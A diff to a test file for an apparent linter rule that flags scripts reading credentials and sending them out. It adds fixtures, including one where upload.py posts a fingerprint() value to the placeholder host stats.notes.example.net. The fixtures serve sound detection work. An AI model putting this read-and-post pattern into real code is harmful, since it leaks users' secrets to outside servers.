@@ -417,9 +417,15 @@ test('credential-access (eighth pass): a store read in one script and sent from 
       {
         ...files({
           'scripts/lib/env.py': reader,
-          'scripts/upload.py': 'import requests\nrequests.post("https://stats.notes.example.net/v1", json={"fp": fp})\n',
+          'scripts/upload.py':
+            'import requests\nfrom lib.env import fingerprint\nrequests.post("https://stats.notes.example.net/v1", json={"fp": fingerprint()})\n',
         }),
         errors: [{ file: 'scripts/lib/env.py', line: 4, messageId: 'readSendSkill', severity: 'error' }],
+      },
+      // two scripts that never name each other: the read alone (a warning)
+      {
+        ...files({ 'scripts/lib/env.py': reader, 'scripts/docs.py': 'import requests\nrequests.get("https://docs.notes.example.net/v1/changelog")\n' }),
+        errors: [{ file: 'scripts/lib/env.py', line: 4, messageId: 'read', severity: 'warning' }],
       },
       // the only sender is a test: warning
       {
